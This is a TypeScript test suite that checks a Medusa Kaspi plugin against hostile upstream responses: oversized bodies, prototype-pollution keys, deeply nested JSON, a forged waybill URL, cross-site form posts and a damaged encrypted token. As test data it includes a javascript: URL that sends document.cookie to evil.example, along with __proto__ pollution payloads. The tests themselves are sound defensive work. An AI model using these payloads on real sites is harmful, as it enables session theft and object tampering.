/**
 * Hostile upstream: what a forged or broken Kaspi (or anyone on the wire, or
 * another site in the admin's browser) can send, against the plugin in a
 * Medusa app with the sandbox over real HTTP. The sandbox is not loosened: the
 * forged waybill comes from its control API (corruptOrder); what no Kaspi
 * could be made to send (50 MB, __proto__ keys, JSON nested thousands deep)
 * comes from a tiny local server inside the test. For each attack the test
 * checks what was refused and that nothing was lost or leaked, and reports
 * one line: RELIABILITY hostile-upstream:<attack> {tried, refused, kept}.
 */
import http from "node:http"
import type { AddressInfo } from "node:net"
import { randomBytes } from "node:crypto"
import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
import { ContainerRegistrationKeys } from "@medusajs/framework/utils"
import { createStockLocationsWorkflow } from "@medusajs/medusa/core-flows"
import { startSandboxForApp } from "../helpers/sandbox-for-app"
import { adminHeaders } from "../helpers/admin-auth"
import { seedCatalog } from "../helpers/catalog"
import type { KaspiSandbox } from "../../sandbox/types"
import { KaspiClient } from "../../src/modules/kaspi/client"
import { KaspiApiError } from "../../src/modules/kaspi/client/errors"
import { SecretToken } from "../../src/modules/kaspi/secret"
import { report } from "./lib/figures"

jest.setTimeout(180_000)

const TOKEN = `hostile-upstream-${randomBytes(8).toString("hex")}`
const MB = 1024 * 1024
let sandbox: KaspiSandbox

/** A local "Kaspi" that answers every request with what the test sets. */
function hostileServer() {
  let answer: (res: http.ServerResponse) => void = (res) => res.end("{}")
  const sent = { bytes: 0 }
  const server = http.createServer((_req, res) => answer(res))
  return {
    sent,
    set(fn: (res: http.ServerResponse) => void) {
      answer = fn
    },
    async start() {
      await new Promise<void>((r) => server.listen(0, "127.0.0.1", r))
      return `http://127.0.0.1:${(server.address() as AddressInfo).port}/shop/api`
    },
    async close() {
      server.closeAllConnections()
      await new Promise((r) => server.close(r))
    },
  }
}

function clientFor(baseUrl: string) {
  return new KaspiClient({
    baseUrl,
    token: new SecretToken("hostile-client-token"),
    merchantId: "30123456",
    userAgent: "medusa-plugin-kaspi-hostile-test",
    minRequestIntervalMs: 0,
    maxConcurrentRequests: 1,
    retry: { attempts: 1, baseDelayMs: 1, maxDelayMs: 1 },
    timeouts: { ordersMs: 30_000, productsMs: 30_000, waybillMs: 30_000 },
    window: { maxMs: 13 * 86_400_000, overlapMs: 3_600_000 },
  })
}

const orderResource = (code: string, extra: Record<string, unknown> = {}) => ({
  type: "orders",
  id: `id-${code}`,
  attributes: { code, totalPrice: 1000, state: "NEW", status: "APPROVED_BY_BANK", creationDate: Date.now() - 60_000, ...extra },
})

beforeAll(async () => {
  sandbox = await startSandboxForApp(TOKEN)
  // The token is entered through the admin (stored encrypted), so the GCM case has a stored one to damage.
  process.env.KASPI_API_TOKEN = ""
  process.env.KASPI_TOKEN_ENCRYPTION_KEY = randomBytes(32).toString("base64")
})

afterAll(async () => {
  await sandbox?.close()
})

describe("the Kaspi client against a hostile server", () => {
  const upstream = hostileServer()
  let baseUrl: string
  beforeAll(async () => {
    baseUrl = await upstream.start()
  })
  afterAll(() => upstream.close())

  it("a 50 MB answer: refused at the 16 MB cap, without buffering the rest", async () => {
    upstream.set((res) => {
      upstream.sent.bytes = 0
      res.writeHead(200, { "content-type": "application/vnd.api+json" })
      const chunk = Buffer.alloc(MB, 0x20)
      const pump = () => {
        while (upstream.sent.bytes < 50 * MB) {
          upstream.sent.bytes += MB
          if (!res.write(chunk)) return void res.once("drain", pump)
        }
        res.end()
      }
      pump()
    })
    const client = clientFor(baseUrl)
    const error = await client.listOrders({ state: "NEW", from: Date.now() - 86_400_000, to: Date.now() }).catch((e) => e)
    await client.close()
    expect(error).toBeInstanceOf(KaspiApiError)
    expect(error.message).toMatch(/over the 16 MB limit/)
    expect(upstream.sent.bytes).toBeLessThan(50 * MB)
    report("hostile-upstream:50MB", { tried: "50 MB JSON answer", refused: error.kind, server_sent_mb: upstream.sent.bytes / MB })
  })

  it("__proto__, constructor and prototype keys: dropped; nothing polluted; the order kept", async () => {
    upstream.set((res) => {
      res.writeHead(200, { "content-type": "application/vnd.api+json" })
      const order = JSON.stringify(orderResource("700000101"))
      const hostile = order.replace('"attributes":{', '"__proto__":{"isAdmin":true},"constructor":{"prototype":{"polluted":1}},"attributes":{"__proto__":{"totalPrice":0},')
      res.end(`{"data":[${hostile}],"meta":{"pageCount":1,"totalCount":1}}`)
    })
    const client = clientFor(baseUrl)
    const page = await client.listOrders({ state: "NEW", from: Date.now() - 86_400_000, to: Date.now() })
    await client.close()
    expect(page.orders).toHaveLength(1)
    const [order] = page.orders
    expect(order.attributes.totalPrice).toBe(1000)
    expect(Object.getPrototypeOf(order.raw.order)).toBe(Object.prototype)
    expect(JSON.stringify(order.raw)).not.toMatch(/__proto__|isAdmin|polluted/)
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined()
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    report("hostile-upstream:proto-keys", { tried: "__proto__/constructor keys in an order", refused: "keys dropped", kept: page.orders.length })
  })

  it("JSON nested 100 000 deep: that order rejected alone, the rest of the page read", async () => {
    const depth = 100_000
    upstream.set((res) => {
      res.writeHead(200, { "content-type": "application/vnd.api+json" })
      const deep = `${'{"x":'.repeat(depth)}1${"}".repeat(depth)}`
      const bad = JSON.stringify(orderResource("700000201")).replace('"attributes":{', `"attributes":{"extra":${deep},`)
      res.end(`{"data":[${bad},${JSON.stringify(orderResource("700000202"))}],"meta":{"pageCount":1,"totalCount":2}}`)
    })
    const client = clientFor(baseUrl)
    const page = await client.listOrders({ state: "NEW", from: Date.now() - 86_400_000, to: Date.now() })
    await client.close()
    expect(page.orders.map((o) => o.code)).toEqual(["700000202"])
    expect(page.invalid).toEqual([expect.objectContaining({ code: "700000201", reason: expect.stringMatching(/nested deeper/) })])
    report("hostile-upstream:deep-json", { tried: `an order nested ${depth} deep`, refused: "that order (invalid, with reason)", kept: page.orders.length })
  })
})

medusaIntegrationTestRunner({
  testSuite: ({ api, getContainer }) => {
    let admin: { headers: { authorization: string } }
    const noThrow = { validateStatus: () => true }
    const pg = () => getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)

    beforeEach(async () => {
      sandbox.reset()
      sandbox.setFaults({ rate: 0, kinds: [] })
      admin = await adminHeaders(api, getContainer())
      // The database is restored before each test: enter the token again.
      expect((await api.post("/admin/kaspi/accounts/default/token", { token: TOKEN, verify: false }, admin)).status).toBe(200)
    })

    it("a forged waybill URL: dropped (null), the order kept, nothing of it reaches the admin", async () => {
      const [order] = sandbox.seedOrders({ count: 1, seed: 21, skus: [{ sku: "HOSTILE-1", price: 1000 }] })
      sandbox.corruptOrder(order.code, { kaspiDelivery: { waybill: "javascript:fetch('//evil.example/?c='+document.cookie)", waybillNumber: "W-1" } })
      expect((await api.post("/admin/kaspi/orders/sync", {}, admin)).status).toBe(200)
      const { data } = await api.get(`/admin/kaspi/orders/${order.code}`, admin)
      expect(data.kaspi_order.code).toBe(order.code)
      expect(data.kaspi_order.waybill_url).toBeNull()
      const [row] = (await pg().raw("select waybill_url from kaspi_order where code = ?", [order.code])).rows
      expect(row.waybill_url).toBeNull()
      report("hostile-upstream:waybill", { tried: "javascript: waybill URL", refused: "URL dropped", kept: data.kaspi_order.import_status })
    })

    it("a form-encoded admin POST (a cross-site form): 415, nothing recorded or sent", async () => {
      const [order] = sandbox.seedOrders({ count: 1, seed: 22, skus: [{ sku: "HOSTILE-2", price: 1000 }] })
      await api.post("/admin/kaspi/orders/sync", {}, admin)
      const res = await api.post(`/admin/kaspi/orders/${order.code}/actions`, "action=cancel&reason=MERCHANT_OUT_OF_STOCK", {
        ...noThrow,
        headers: { ...admin.headers, "content-type": "application/x-www-form-urlencoded" },
      })
      expect(res.status).toBe(415)
      const [{ count }] = (await pg().raw("select count(*)::int as count from kaspi_action")).rows
      expect(count).toBe(0)
      expect(sandbox.requests().filter((r) => r.method === "POST")).toEqual([])
      report("hostile-upstream:form-post", { tried: "form-encoded cancel", refused: res.status, actions_recorded: count })
    })

    it("a truncated GCM tag on the stored token: refused, the token never used or shown", async () => {
      const [row] = (await pg().raw("select id, token_ciphertext from kaspi_account_credential")).rows
      const parts = String(row.token_ciphertext).split(".")
      parts[3] = Buffer.from(parts[3], "base64url").subarray(0, 4).toString("base64url")
      await pg().raw("update kaspi_account_credential set token_ciphertext = ? where id = ?", [parts.join("."), row.id])
      // The stored token is cached for up to 30 s; the account list reads the row.
      const { data } = await api.get("/admin/kaspi/accounts", admin)
      const account = data.accounts.find((a: { id: string }) => a.id === "default")
      expect(JSON.stringify(data)).not.toContain(TOKEN)
      expect(account.tokenProblem ?? "").toMatch(/does not decrypt/)
      report("hostile-upstream:gcm-tag", { tried: "4-byte GCM tag", refused: "does not decrypt", leaked: JSON.stringify(data).includes(TOKEN) })
    })

    it("a feed download cut off half-way: the server goes on serving the feed whole", async () => {
      const c = getContainer()
      const { result: [location] } = await createStockLocationsWorkflow(c).run({ input: { locations: [{ name: "Almaty" }] } })
      await seedCatalog(c, Array.from({ length: 40 }, (_, i) => ({ sku: `FEED-${i}`, title: `Товар ${i} ${"x".repeat(200)}`, price: 1000 + i, stock: { [location.id]: 5 } })))
      await api.post("/admin/kaspi/store-mappings", { store_id: "PP1", stock_location_id: location.id }, admin)
      const config = await api.post("/admin/kaspi/feed/default/config", { enabled: true }, admin)
      const build = await api.post("/admin/kaspi/feed/default/rebuild", { force: true }, admin)
      expect(build.data.build ?? build.data).toMatchObject({ status: "published" })
      const url = `${api.defaults.baseURL}${config.data.config.feed_path}`
      const aborted = { bytes: 0 }
      for (let i = 0; i < 5; i++) {
        const ctl = new AbortController()
        const res = await fetch(url, { signal: ctl.signal, headers: { "accept-encoding": "identity" } })
        const reader = res.body!.getReader()
        const { value } = await reader.read()
        aborted.bytes += value?.length ?? 0
        ctl.abort()
      }
      const whole = await fetch(url, { headers: { "accept-encoding": "identity" } })
      const xml = await whole.text()
      expect(whole.status).toBe(200)
      expect(xml).toContain("FEED-39")
      expect(xml.trim().endsWith("</kaspi_catalog>")).toBe(true)
      report("hostile-upstream:feed-abort", { tried: "5 downloads cut off after the first chunk", served_after: whole.status, bytes: xml.length })
    })
  },
})
